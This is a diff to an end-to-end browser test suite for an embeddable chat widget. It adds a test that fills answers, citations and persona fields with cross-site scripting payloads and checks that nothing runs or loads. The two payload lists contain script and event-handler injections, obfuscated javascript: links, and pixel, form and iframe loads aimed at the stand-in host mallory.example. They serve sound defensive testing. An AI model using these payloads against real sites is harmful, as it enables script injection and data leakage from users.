@@ -1,5 +1,6 @@
 """The widget in Chromium, on the page of a shop that has nothing to do with us: Carol asks Acme's Mei from there."""
 
+import re
 from collections.abc import Callable, Iterator
 from typing import Any
 
@@ -7,6 +8,7 @@ import pytest
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect
 
+from chat.rendering import render_answer
 from tests.e2e.conftest import shoot
 from tests.e2e.fake_chat import PERSONA, PUBLISHABLE_KEY, Address, FakeChat
 
@@ -38,8 +40,8 @@ SHOP = """<!doctype html><html lang="{lang}"><head><meta charset="utf-8"><title>
 class Carol:
     """A visitor of the shop."""
 
-    def __init__(self, page: Page, fake_chat: FakeChat) -> None:
-        self.page, self.fake_chat = page, fake_chat
+    def __init__(self, page: Page, fake_chat: FakeChat, wrongs: list[str]) -> None:
+        self.page, self.fake_chat, self.wrongs = page, fake_chat, wrongs
         self.launcher = page.locator("#launcher")
         self.panel = page.locator("#panel")
         self.box = page.locator("#composer-text")
@@ -122,7 +124,7 @@ def visit(browser: Browser, fake_chat: FakeChat) -> Iterator[Visit]:
         tab.on("console", lambda message: "Content Security" in message.text and wrongs.append(message.text))
         tab.on("request", lambda request: request.url.startswith((host, shop)) or wrongs.append(request.url))
         tab.goto(f"{shop}/shop/")
-        return Carol(tab, fake_chat)
+        return Carol(tab, fake_chat, wrongs)
 
     yield come
     for context in contexts:
@@ -325,3 +327,98 @@ def test_two_widgets_on_a_page_keep_to_themselves(visit, fake_chat):
     launchers.last.click()
     expect(carol.panel.first).to_be_hidden()
     expect(carol.panel.last).to_be_visible()
+
+
+# --- What people and models write ------------------------------------------------------------------------------
+
+ALARM = "window.ran = (window.ran ?? 0) + 1"
+# Each tries to run, load or style something; those of the first list as Markdown, those of the second past the server.
+HOSTILE_TEXTS = [
+    f"<script>{ALARM}</script>",
+    f"<img src=x onerror='{ALARM}'>",
+    f"<svg onload='{ALARM}'><script>{ALARM}</script></svg>",
+    f"[click](javascript:{ALARM})",
+    f"[click](&#106;avascript:{ALARM})",
+    f"[click](java\tscript:{ALARM})",
+    f"[d](data:text/html,<script>{ALARM}</script>)",
+    "![pixel](https://mallory.example/pixel.png)",
+    "![pixel][ref]\n\n[ref]: https://mallory.example/pixel.png",
+    "<style>@import url(https://mallory.example/x.css);</style>",
+    "<iframe src=https://mallory.example></iframe>",
+    "<link rel=preload as=image href=https://mallory.example/x>",
+    "<base href=https://mallory.example>",
+    "<form action=https://mallory.example><button>Send</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://mallory.example'>",
+    "<https://mallory.example/autolink>",
+    "[v](vbscript:x)",
+    "[b](blob:https://mallory.example/1)",
+    "[f](file:///etc/passwd)",
+    "[s](//mallory.example/s)",
+    f"```html\n<script>{ALARM}</script>\n```",
+    "<details open ontoggle=x>",
+    "<math><mtext><style><img src=x onerror=x></style></mtext></math>",
+    "<p id=send class=send style=position:fixed>over</p>",
+    "<video src=https://mallory.example/v poster=https://mallory.example/p></video>",
+    "[x](https://a.example 'a\" onmouseover=alert(1) b')",
+]
+PAST_THE_SERVER = [
+    f"<img src=x onerror='{ALARM}'>",
+    f"<p onclick='{ALARM}' style='position:fixed'>x</p>",
+    f"<a href='javascript:{ALARM}'>x</a>",
+    f"<a href=' jAvAscript:{ALARM}'>x</a>",
+    "<img src=https://mallory.example/p.png>",
+    "<style>*{display:none}</style>",
+    "<iframe srcdoc='<script>1</script>'></iframe>",
+    f"<svg><animate onbegin='{ALARM}'/></svg>",
+    "<form action=https://mallory.example><input name=password></form>",
+    "<button id=send data-act=retry>x</button>",
+    "<template><img src=x></template>",
+    "<object data=https://mallory.example></object>",
+    "<a href='https://shop.example' ping='https://mallory.example' target=_self>fine</a>",
+]
+WHAT_IS_LEFT = """answers => answers.flatMap((answer) => [...answer.querySelectorAll("*")]).map((one) => [
+    one.matches("img, script, style, iframe, form, input, svg, object, video, meta, link, base") && one.tagName,
+    ...[...one.attributes].filter(({ name }) => /^on|^style$|^src|^ping$|^id$/.test(name)).map(({ name }) => name),
+    one.matches("a[href]") && !/^(https?|mailto|tel):/.test(one.href) && one.href,
+    one.matches("a[href]") && one.rel !== "noopener noreferrer nofollow" && `rel ${one.rel}`,
+    one.matches("a[href]") && one.target !== "_blank" && `target ${one.target}`,
+]).flat().filter(Boolean)"""
+
+
+@pytest.mark.parametrize("where", ["widget", "page"])
+def test_nothing_that_anybody_writes_runs_or_loads(visit, fake_chat, where):
+    carol = visit()
+    if where == "page":
+        carol.page.goto(fake_chat.page_url)
+    else:
+        carol.opens()
+    whole = "\n\n".join(HOSTILE_TEXTS)
+    fake_chat.persona |= {"name": HOSTILE_TEXTS[1], "suggestions": [HOSTILE_TEXTS[0]]}
+    citation = {"n": 1, "document_id": "d", "chunk_id": "c", "title": HOSTILE_TEXTS[1], "text": whole, "score": 1}
+    link = {**citation, "n": 2, "url": f"javascript:{ALARM}"}
+
+    carol.asks_and_reads(
+        whole,
+        f"{whole} [1] [2]",
+        html=render_answer(f"{whole} [1] [2]"),
+        citations=[citation, link],
+        suggestions=[HOSTILE_TEXTS[1]],
+    )
+    carol.asks_and_reads(
+        "And past the server?", "x [1]", html="".join(PAST_THE_SERVER) + "<p>x [1]</p>", citations=[citation]
+    )
+    fake_chat.say_as_person(HOSTILE_TEXTS[1], whole)
+    expect(carol.answers).to_have_count(4)
+    expect(carol.said.first).to_have_text(whole)
+
+    bodies = carol.page.locator(".message--answer .answer")
+    assert bodies.evaluate_all(WHAT_IS_LEFT) == []
+    for dead in bodies.locator("a:not([href])").all():
+        dead.click(force=True)
+    carol.answers.nth(1).locator(".source").last.press("Enter")
+    expect(carol.page.locator("#passage-where a")).to_have_count(0)
+    assert carol.page.evaluate("window.ran") is None
+    # A browser reports handlers and styles while it reads them into a document where nothing runs, and from which they
+    # are taken out. Anything else (`visit` looks) would be a picture fetched, a frame opened, a script run.
+    read = re.compile("Executing inline event handler|Applying inline style")
+    carol.wrongs[:] = [wrong for wrong in carol.wrongs if not read.match(wrong)]
